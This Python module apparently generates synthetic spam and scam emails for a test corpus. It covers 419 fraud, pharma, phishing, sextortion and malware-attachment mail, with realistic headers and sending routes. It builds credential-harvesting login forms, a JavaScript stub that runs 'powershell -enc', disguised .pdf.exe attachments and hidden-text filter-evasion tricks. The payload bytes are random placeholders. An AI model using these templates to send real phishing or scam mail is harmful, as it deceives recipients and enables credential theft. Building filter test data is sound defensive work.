"""Unsolicited and fraudulent mail: how each kind is commonly written and sent (bots, bulk
mailers, hacked web sites, genuine free-mail accounts, cheap bulk services)."""
from . import bulk as B
from . import clients as K
from . import common as C
from . import spamware as W
from . import text_spam as T
from . import transport as R
from .ham import Fill, jpg_bytes, pdf_bytes

COUNTRIES = ['Nigeria', 'Ghana', 'Benin', 'Togo', 'Sierra Leone', 'Burkina Faso', 'South Africa', 'Ivory Coast']
BANKS = ['Central Bank', 'Union Bank', 'First Trust Bank', 'African Development Bank', 'Ecobank']
WORDS = ('about above across after again against almost along already also although always among another '
         'answer appear around because become before begin being below between both bring build business '
         'call carry cause certain change children city close cold come company complete could country '
         'course cover cross current dark decide deep different direction during early earth east effect '
         'either energy enough even evening every example family father field figure final follow force '
         'friend front garden general glass govern great green ground group grow happen heart heavy help '
         'history horse house hundred island issue kingdom language large laugh learn letter level light').split()


def sl(rng, **kw):
    d = Fill(amount=f'${rng.randint(3, 45)},{rng.randint(100, 999)},000.00', pct=rng.pick([50, 70, 75, 80, 90]),
             num=str(rng.randint(10000, 9999999)), num4=rng.digits(4), n1=rng.randint(1, 9), n2=rng.randint(10, 99),
             rand=rng.alnum(rng.randint(4, 8)).lower(), ticker=rng.alnum(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'),
             company=rng.pick(['Nexus Minerals Corp', 'GreenTech Energy Inc', 'BioMed Holdings', 'Apex Oil & Gas']),
             country=rng.pick(COUNTRIES), bank=rng.pick(BANKS), dept=rng.pick(['Audit Unit', 'Foreign Remittance Department', 'Contracts Department']),
             title=rng.pick(['Dr.', 'Barrister', 'Mrs.', 'Mr.', 'Prince']), printer=rng.pick(['Xerox WorkCentre', 'HP LaserJet', 'Canon iR-ADV', 'RICOH MP C3004']),
             amount2=rng.pick([950, 1200, 1450, 2000]), btc='bc1q' + rng.alnum(38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'))
    d.update(kw)
    return d


def noise(rng, n):
    return ' '.join(rng.pick(WORDS) for _ in range(n))


def spam_domain(rng):
    return rng.pick([C.org_domain(rng), rng.lower(rng.randint(6, 12)) + '.' + rng.pick(['com', 'net', 'biz', 'info', 'ru', 'cn', 'top', 'xyz', 'click', 'online', 'shop'])])


def spam_url(rng, dom=None):
    dom = dom or spam_domain(rng)
    return rng.pick([f'http://{dom}/{rng.lower(5)}/?id={rng.digits(6)}', f'http://www.{dom}/',
                     f'http://{C.public_ip(rng)}/{rng.lower(6)}.html', f'https://{dom}/{rng.alnum(8)}',
                     f'http://{rng.lower(5)}.{dom}/index.php?r={rng.alnum(10)}'])


def promo_html(rng, lines, url, classic=True, hidden=False, image=None):
    """Advertising HTML as bulk tools write it."""
    h = []
    if classic:
        h.append(rng.pick(['<html><body>', '<HTML><HEAD><TITLE></TITLE></HEAD><BODY bgcolor="#FFFFFF">', '<html>\n<body bgcolor=#ffffcc>', '']))
        h.append(f'<center><font face="Arial" size="{rng.randint(4, 6)}" color="#{rng.pick(["FF0000", "0000FF", "006600", "990000"])}"><b>{lines[0]}</b></font></center>')
        for line in lines[1:]:
            h.append(f'<p><font face="{rng.pick(["Verdana", "Arial", "Tahoma"])}" size="{rng.randint(2, 4)}">{line}</font></p>')
        h.append(f'<p align="center"><a href="{url}"><font size="5"><b>{rng.pick(["CLICK HERE", "Click Here!", "ORDER NOW", "Visit our site", "Get it now"])}</b></font></a></p>')
    else:
        h.append('<html><head><meta charset="utf-8"></head><body>')
        h.append(f'<div style="max-width:560px;margin:auto;font-family:Arial"><h2>{lines[0]}</h2>')
        for line in lines[1:]:
            h.append(f'<p>{line}</p>')
        h.append(f'<p><a href="{url}" style="background:#ff6600;color:#fff;padding:14px 28px;font-size:20px">{rng.pick(["Claim now", "Shop now", "Get started", "Learn more", "Order today"])}</a></p></div>')
    if image:
        h.append(f'<a href="{url}"><img src="{image}" border="0"></a>')
    if hidden:
        style = rng.pick(['color:#ffffff', 'font-size:1px;color:#fefefe', 'display:none', 'font-size:0px',
                          'color:#FFFFFE;font-size:2px'])
        tag = rng.pick(['span', 'div', 'font'])
        if tag == 'font' and rng.chance(0.5):
            h.append(f'<font color="#ffffff" size="1">{noise(rng, rng.randint(20, 80))}</font>')
        else:
            h.append(f'<{tag} style="{style}">{noise(rng, rng.randint(20, 80))}</{tag}>')
    h.append(rng.pick(['</body></html>', '</BODY></HTML>', '']))
    return '\n'.join(h)


def pick_sender(rng, lang='en', brand_name=None):
    """A spam sender: random person at a throw-away domain, a free-mail account, or a spoof."""
    kind = rng.weighted([(4, 'random'), (3, 'freemail'), (1, 'spoof_rcpt')])
    if kind == 'freemail':
        p = C.person(rng, lang, freemail=True)
    else:
        p = C.person(rng, lang, domain=spam_domain(rng))
        if rng.chance(0.4):
            p.addr = rng.lower(rng.randint(5, 11)) + str(rng.randint(0, 999)) + '@' + p.domain
    name = brand_name or rng.pick([p.name, p.name, '', rng.lower(8).capitalize(), p.addr.split('@')[0]])
    return p, name, kind


def send(rng, ctx, d, how=None):
    """Writes headers for a spam draft with one of the usual sending methods."""
    how = how or rng.weighted([(5, 'ratware'), (2, 'webmail'), (2, 'php'), (1, 'bulk')])
    if how == 'webmail':   # a genuine free-mail account (its own client headers and relays)
        fm = rng.pick(['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com'] if ctx.era == 'modern'
                      else ['yahoo.com', 'hotmail.com', 'msn.com'])
        d.sender.addr = d.sender.addr.split('@')[0] + '@' + fm
        client = {'gmail.com': K.gmail, 'yahoo.com': K.yahoo}.get(fm, K.exchange_online)
        if ctx.era == 'classic':
            client = K.yahoo_classic if fm == 'yahoo.com' else K.hotmail_classic
        if not d.to:
            d.to = [('', ctx.rcpt)]
        h, root = client(rng, d)
        if d.reply_to and not any(k == 'Reply-To' for k, _ in h):
            h.insert(2, ('Reply-To', C.addr_header(d.reply_to[0], d.reply_to[1])))
        route = {'gmail.com': 'gmail', 'yahoo.com': 'yahoo'}.get(fm, 'outlookcom')
        if ctx.era == 'classic':
            route = 'esp:' + (f'web{rng.randint(10000, 21999)}.mail.yahoo.com' if fm == 'yahoo.com'
                              else f'law2-f{rng.randint(10, 199)}.hotmail.com')
        return R.prepend(rng, h, d, route, ctx.rcpt), root
    if how == 'php':
        host = C.org_domain(rng)
        if rng.chance(0.5):
            d.sender.addr = rng.pick(['noreply', 'info', 'support', 'admin', 'service']) + '@' + host
        h, root = W.php_script(rng, d, ctx.rcpt, host)
        return R.prepend(rng, h, d, 'hacked', ctx.rcpt, return_path=f'{rng.pick(["www-data", "apache", "nobody", "user"])}@{host}'), root
    if how == 'esp':   # snowshoe through a cheap bulk service
        site = spam_domain(rng)
        d.sender.addr = rng.pick(['news', 'offers', 'deals', 'info']) + '@' + site
        mid, eh, tracker, bounce_dom, route_host = B.esp_profile(rng, rng.pick(['sendgrid', 'mailgun', 'ses', 'sparkpost', 'inhouse']), site, d.t)
        h = [('From', C.addr_header(d.from_name, d.sender.addr)), ('To', ctx.rcpt), ('Subject', K.subj(d)),
             ('Date', C.rfc_date(d.t, 0)), ('Message-ID', f'<{mid}>'), ('MIME-Version', '1.0'),
             ('List-Unsubscribe', f'<https://{site}/unsub?e={rng.hex(12)}>')] + eh
        return R.prepend(rng, h, d, 'esp:' + route_host, ctx.rcpt, return_path=f'bounce@{site}'), W.spam_body(rng, d, 'esp')
    style = 'bulk' if how == 'bulk' else None
    h, root = W.ratware(rng, d, ctx.rcpt, ctx.era, style)
    route = rng.weighted([(6, 'bot'), (2, 'relay' if ctx.era == 'classic' else 'hacked'), (1, 'corp')])
    return R.prepend(rng, h, d, route, ctx.rcpt, return_path=rng.pick([d.sender.addr, d.sender.addr, f'{rng.lower(7)}@{spam_domain(rng)}'])), root


def draft(rng, ctx, sender, name, subject, text, html=None, lang='en', charset='utf-8', **kw):
    d = K.Draft(sender, name, [], subject, ctx.t, lang, charset, text, html=html)
    for k, v in kw.items():
        setattr(d, k, v)
    return d


def fraud(rng, ctx):
    lang = rng.weighted([(8, 'en'), (1, 'fr'), (1, 'es')])
    pool = T.FRAUD_419[lang]
    s = sl(rng, name=rng.pick(pool['names']))
    sender, _, kind = pick_sender(rng, lang)
    if kind != 'freemail' and rng.chance(0.5):
        sender.addr = sender.addr.split('@')[0] + '@' + rng.pick(C.FREEMAIL['en'])
    name = s['name'] if rng.chance(0.7) else ''
    body = [line.format_map(s) for line in rng.sample(pool['body'], min(len(pool['body']), rng.randint(4, 8)))]
    text = rng.pick(['Dear Friend,', 'Dear Sir/Madam,', 'Attention: Beneficiary,', 'Greetings,', 'Dear ' + ctx.rcpt.split('@')[0] + ',']) + '\n\n' + '\n\n'.join(body) + f'\n\nYours faithfully,\n{s["name"]}'
    subject = rng.pick(pool['subjects']).format_map(s)
    if rng.chance(0.5):
        subject = subject.upper()
    rt = ('', rng.lower(rng.randint(5, 9)) + str(rng.randint(1, 999)) + '@' + rng.pick(C.FREEMAIL['en'])) if rng.chance(0.6) else None
    d = draft(rng, ctx, sender, name, subject, text, html='<html><body>' + K.paragraphs_html(text) + '</body></html>',
              lang=lang, charset=rng.pick(['utf-8', 'iso-8859-1', 'windows-1252']), reply_to=rt,
              text_only=rng.chance(0.6), html_only=rng.chance(0.2))
    return send(rng, ctx, d, rng.weighted([(4, 'ratware'), (4, 'webmail'), (1, 'php')]))


def pharma(rng, ctx):
    lang = rng.weighted([(5, 'en'), (1, 'de')])
    pool = T.PHARMA[lang]
    s = sl(rng)
    sender, name, _ = pick_sender(rng, lang)
    subject = rng.pick(pool['subjects']).format_map(s)
    lines = [line.format_map(s) for line in rng.sample(pool['body'], min(len(pool['body']), rng.randint(3, 6)))]
    if rng.chance(0.4):
        lines = [line.replace('Viagra', rng.pick(['V1agra', 'Vi@gra', 'V-i-a-g-r-a', 'VIAGRA', 'Vlagra'])).replace('Cialis', rng.pick(['C1alis', 'Cia1is', 'CIALIS'])) for line in lines]
    url = spam_url(rng)
    html = promo_html(rng, lines, url, classic=ctx.era == 'classic' or rng.chance(0.4), hidden=rng.chance(0.4),
                      image=f'http://{spam_domain(rng)}/img/{rng.alnum(6)}.jpg' if rng.chance(0.5) else None)
    text = '\n'.join(lines) + f'\n\n{url}\n'
    if rng.chance(0.3):
        subject += ' ' + rng.alnum(rng.randint(4, 10)).lower()
    d = draft(rng, ctx, sender, name, subject, text, html=html, lang=lang, html_only=rng.chance(0.5))
    return send(rng, ctx, d)


def stock(rng, ctx):
    pool = T.STOCK['en']
    s = sl(rng)
    sender, name, _ = pick_sender(rng)
    lines = [line.format_map(s) for line in pool['body']]
    rng.shuffle(lines)
    text = '\n\n'.join(lines[:5])
    html = None
    atts = []
    if rng.chance(0.4):   # image spam
        cid = f'{rng.hex(8)}@{rng.lower(6)}'
        html = f'<html><body><img src="cid:{cid}"><br><font color="#ffffff" size="1">{noise(rng, 60)}</font></body></html>'
        atts = [(rng.alnum(6).lower() + '.gif', b'GIF89a' + bytes(rng.getrandbits(8) for _ in range(3000)), 'image/gif')]
        text = noise(rng, 40)
    d = draft(rng, ctx, sender, name, rng.pick(pool['subjects']).format_map(s), text,
              html=html or promo_html(rng, lines[:4], spam_url(rng), classic=False), attachments=atts,
              text_only=html is None and rng.chance(0.5))
    return send(rng, ctx, d, rng.weighted([(5, 'ratware'), (1, 'bulk')]))


def phishing(rng, ctx):
    lang = rng.weighted([(10, 'en'), (1, 'de'), (1, 'fr'), (1, 'es'), (1, 'ja'), (1, 'pt')])
    brand, subject, lines = rng.pick(T.PHISH[lang])
    s = sl(rng, rcpt=ctx.rcpt, sender=C.person(rng).name)
    lines = [line.format_map(s) for line in lines]
    subject = subject.format_map(s)
    evil_dom = spam_domain(rng)
    evil = rng.pick([f'https://{evil_dom}/{rng.lower(6)}/login.php?email={ctx.rcpt}',
                     f'http://{rng.lower(8)}.{rng.pick(["web.app", "firebaseapp.com", "blogspot.com", "000webhostapp.com", "weebly.com"])}/{rng.lower(5)}',
                     f'https://{brand.lower().replace(" ", "")}-{rng.pick(["secure", "verify", "account", "login"])}.{rng.pick(["com", "net", "info", "online"])}/{rng.alnum(8)}',
                     f'http://{C.public_ip(rng)}/{brand.lower().replace(" ", "")}/signin/'])
    shown = rng.pick(['', '', f'https://www.{brand.lower().replace(" ", "")}.com/account/verify',
                      f'www.{brand.lower().replace(" ", "")}.com'])
    link_text = shown or lines[2]
    form = ''
    if rng.chance(0.15):
        form = f'<form action="{evil}" method="post">Email: <input name="e" value="{ctx.rcpt}"><br>Password: <input type="password" name="p"><input type="submit" value="Verify"></form>'
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial">'
            f'<div style="max-width:600px;margin:auto"><h2 style="color:#0078d4">{brand}</h2>'
            f'<p>{lines[0]}</p><p>{lines[1]}</p><p><a href="{evil}" style="background:#0078d4;color:#fff;padding:10px 20px">{link_text}</a></p>'
            f'{form}<p style="font-size:12px;color:#666">{lines[3]}</p><p style="font-size:11px;color:#999">© {brand}. All rights reserved.</p></div></body></html>')
    text = '\n\n'.join([lines[0], lines[1], f'{lines[2]}: {evil}', lines[3]])
    sender, _, _ = pick_sender(rng, lang)
    sender.addr = rng.pick(['security', 'no-reply', 'support', 'account', 'service', 'alert']) + '@' + rng.pick([evil_dom, spam_domain(rng), C.org_domain(rng)])
    atts = []
    if rng.chance(0.15):   # the form as an HTML attachment
        atts = [(rng.pick(['Document.html', 'Invoice.htm', 'secure_message.html']), html.encode(), 'text/html')]
        html = '<html><body><p>' + lines[0] + '</p><p>Please open the attached secure document.</p></body></html>'
    name = rng.pick([brand, brand + ' Support', f'{brand} Security', f'{brand} <{rng.pick(["security", "service"])}@{brand.lower().replace(" ", "")}.com>'])
    d = draft(rng, ctx, sender, name, subject, text, html=html, lang=lang, html_only=rng.chance(0.6), attachments=atts)
    if rng.chance(0.2):
        d.reply_to = ('', rng.lower(8) + '@' + rng.pick(C.FREEMAIL['en']))
    return send(rng, ctx, d, rng.weighted([(3, 'ratware'), (4, 'php'), (2, 'webmail'), (1, 'esp')]))


def zip_with(rng, inner):
    name = inner.encode()
    return b'PK\x03\x04\x14\x00\x00\x00\x08\x00' + bytes(rng.getrandbits(8) for _ in range(16)) + \
        len(name).to_bytes(2, 'little') + b'\x00\x00' + name + bytes(rng.getrandbits(8) for _ in range(rng.randint(2000, 6000)))


def exe_bytes(rng):
    return b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8' + b'\x00' * 40 + b'PE\x00\x00' + bytes(rng.getrandbits(8) for _ in range(4000))


def malware(rng, ctx):
    lang = rng.weighted([(6, 'en'), (1, 'de'), (1, 'it'), (1, 'es')])
    subject, text = rng.pick(T.MALWARE[lang])
    s = sl(rng)
    subject, text = subject.format_map(s), text.format_map(s)
    sender, name, _ = pick_sender(rng, lang)
    base = rng.pick(['Invoice_', 'Scan_', 'Payment_', 'DHL_AWB_', 'PO_', 'Document_', 'Rechnung_', 'Fattura_'])
    base += s['num']
    kind = rng.randrange(8)
    if kind == 0:
        att = (base + '.zip', zip_with(rng, base + '.exe'), 'application/zip')
    elif kind == 1:
        att = (base + '.pdf.exe', exe_bytes(rng), 'application/octet-stream')
    elif kind == 2:
        att = (base + '.docm', zip_with(rng, 'word/vbaProject.bin'), 'application/vnd.ms-word.document.macroEnabled.12')
    elif kind == 3:
        att = (base + '.iso', b'\x00' * 32768 + b'\x01CD001' + bytes(rng.getrandbits(8) for _ in range(2000)), 'application/octet-stream')
    elif kind == 4:
        att = (base + '.html', f'<html><script>window.location="{spam_url(rng)}"</script></html>'.encode(), 'text/html')
    elif kind == 5:
        att = (base + '.js', b'var x = new ActiveXObject("WScript.Shell"); x.Run("powershell -enc ' + rng.b64(60).encode() + b'");', 'application/javascript')
    elif kind == 6:
        att = (base + '.img', b'\x00' * 2048 + bytes(rng.getrandbits(8) for _ in range(3000)), 'application/octet-stream')
    else:
        att = (base + '.xls', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(rng.getrandbits(8) for _ in range(4000)), 'application/vnd.ms-excel')
    d = draft(rng, ctx, sender, name, subject, text + '\n\n' + rng.pick(['Regards', 'Best regards', 'Thanks']) + '\n' + (name or 'Accounts'),
              html='<html><body>' + K.paragraphs_html(text) + '</body></html>', lang=lang, attachments=[att],
              text_only=rng.chance(0.6))
    return send(rng, ctx, d, rng.weighted([(5, 'ratware'), (2, 'webmail'), (1, 'php')]))


def classic_ad(rng, ctx):
    cat, subjects, lines = rng.pick(T.CLASSIC['en'])
    s = sl(rng)
    sender, name, _ = pick_sender(rng)
    subject = rng.pick(subjects).format_map(s)
    r = rng.randrange(5)
    if r == 0:
        subject += ' ' * rng.randint(5, 20) + rng.digits(rng.randint(3, 6))
    elif r == 1:
        subject = 'ADV: ' + subject
    elif r == 2:
        subject = subject.upper() + '!!!'
    elif r == 3:
        subject = rng.pick(['Re: ', 'Fw: ', 'RE: ']) + subject
    lines = [line.format_map(s) for line in lines]
    footer = rng.pick(T.CLASSIC_FOOTERS).format(domain=spam_domain(rng))
    url = spam_url(rng)
    html = promo_html(rng, lines + [f'<font size="1">{footer}</font>'], url, classic=True, hidden=rng.chance(0.3))
    text = '\n\n'.join(lines) + f'\n\n{url}\n\n{footer}'
    d = draft(rng, ctx, sender, name, subject, text, html=html, charset=rng.pick(['iso-8859-1', 'us-ascii', 'windows-1252']),
              html_only=rng.chance(0.55), text_only=rng.chance(0.2))
    return send(rng, ctx, d, rng.weighted([(6, 'ratware'), (2, 'bulk'), (1, 'webmail')]))


def asian(rng, ctx):
    lang = rng.pick(list(T.ASIAN_ADS))
    subject, text = rng.pick(T.ASIAN_ADS[lang])
    cs = {'ko': rng.pick(['ks_c_5601-1987', 'euc-kr']), 'zh': rng.pick(['gb2312', 'gbk', 'big5']),
          'ru': rng.pick(['koi8-r', 'windows-1251']), 'ja': rng.pick(['iso-2022-jp', 'shift_jis'])}[lang]
    pycs = {'ks_c_5601-1987': 'euc-kr'}.get(cs, cs)
    sender, name, _ = pick_sender(rng, lang)
    if lang == 'zh' and cs == 'big5':
        text = text  # characters outside big5 become '?'
    url = spam_url(rng)
    html = promo_html(rng, text.split('\n'), url, classic=True)
    d = draft(rng, ctx, sender, name, subject, text + f'\n{url}', html=html, lang=lang, charset=pycs,
              html_only=rng.chance(0.5))
    h, root = send(rng, ctx, d, rng.weighted([(5, 'ratware'), (1, 'bulk')]))
    if cs != pycs:   # label the part with the charset name the sender wrote
        for part in [root] + (root.children or []):
            part.params = [(k, v.replace(pycs, cs) if k == 'charset' else v) for k, v in part.params]
    return h, root


def sextortion(rng, ctx):
    lang = rng.weighted([(4, 'en'), (1, 'de')])
    s = sl(rng)
    lines = [line.format_map(s) for line in T.SEXTORTION[lang]]
    text = f'Hello!\n\n' + '\n\n'.join(lines)
    sender, name, _ = pick_sender(rng, lang)
    if rng.chance(0.5):   # "sent from your own account"
        sender.addr = ctx.rcpt
        name = ''
    d = draft(rng, ctx, sender, name, rng.pick(['Security Alert. Your accounts were compromised.', f'{ctx.rcpt}', 'Payment required', 'I know your password']),
              text, lang=lang, text_only=True)
    d.to = [('', ctx.rcpt)]
    return send(rng, ctx, d, rng.weighted([(5, 'ratware'), (1, 'php')]))


def lottery(rng, ctx):
    lang = rng.weighted([(4, 'en'), (1, 'es')])
    s = sl(rng)
    text = '\n\n'.join(line.format_map(s) for line in T.LOTTERY[lang])
    sender, name, _ = pick_sender(rng, lang)
    rt = ('Claims Agent', rng.lower(7) + '@' + rng.pick(C.FREEMAIL['en']))
    d = draft(rng, ctx, sender, name or 'Lottery Board', rng.pick(['WINNING NOTIFICATION', 'Congratulations!!!', 'Your email has won', 'FINAL NOTICE: CLAIM YOUR PRIZE']),
              text, lang=lang, reply_to=rt, text_only=rng.chance(0.7))
    return send(rng, ctx, d, rng.weighted([(3, 'ratware'), (3, 'webmail')]))


def job(rng, ctx):
    text = '\n\n'.join(rng.sample(T.JOBS['en'], 3))
    sender, name, _ = pick_sender(rng)
    d = draft(rng, ctx, sender, name or 'HR Department', rng.pick(['Job offer', 'Remote position available', 'Part-time work from home', 'Your application']),
              text, text_only=rng.chance(0.6), html='<html><body>' + K.paragraphs_html(text) + '</body></html>')
    return send(rng, ctx, d, rng.weighted([(3, 'ratware'), (2, 'webmail'), (1, 'php')]))


def product(rng, ctx):
    subject, line = rng.pick(T.PRODUCTS['en'])
    sender, _, _ = pick_sender(rng)
    url = spam_url(rng)
    lines = [line, rng.pick(['Act now - offer ends tonight!', 'Only a few left in stock.', 'Thousands already signed up.']),
             rng.pick(['Unsubscribe', 'To stop receiving these messages click here.', 'This is an advertisement.'])]
    html = promo_html(rng, lines, url, classic=False, hidden=rng.chance(0.3),
                      image=f'https://{spam_domain(rng)}/i/{rng.alnum(10)}.png' if rng.chance(0.6) else None)
    name = rng.pick(['Keto Burn', 'Warranty Dept', 'CryptoNews', 'Solar Savings', 'CBD Store', 'Rewards Center', 'Customer Reward'])
    d = draft(rng, ctx, sender, name, subject, '\n\n'.join(lines) + f'\n{url}', html=html, html_only=rng.chance(0.5))
    return send(rng, ctx, d, rng.weighted([(3, 'ratware'), (3, 'esp'), (1, 'php')]))


def image_spam(rng, ctx):
    sender, name, _ = pick_sender(rng)
    cid = f'{rng.hex(12)}$@{rng.lower(6)}'
    url = spam_url(rng)
    html = f'<html><body><a href="{url}"><img src="cid:{cid}" border="0"></a>' + \
        (f'<div style="color:#ffffff;font-size:1px">{noise(rng, 80)}</div>' if rng.chance(0.5) else '') + '</body></html>'
    img = (rng.lower(6) + rng.pick(['.gif', '.png', '.jpg']), jpg_bytes(rng), rng.pick(['image/gif', 'image/png', 'image/jpeg']))
    d = draft(rng, ctx, sender, name, rng.pick(['Hi', 'Re: info', 'hello', rng.lower(8), 'You will like it', 'Important information']),
              noise(rng, rng.randint(0, 30)), html=html, html_only=True)
    d.attachments = [img]
    return send(rng, ctx, d, rng.weighted([(5, 'ratware'), (1, 'bulk')]))


_ = pdf_bytes
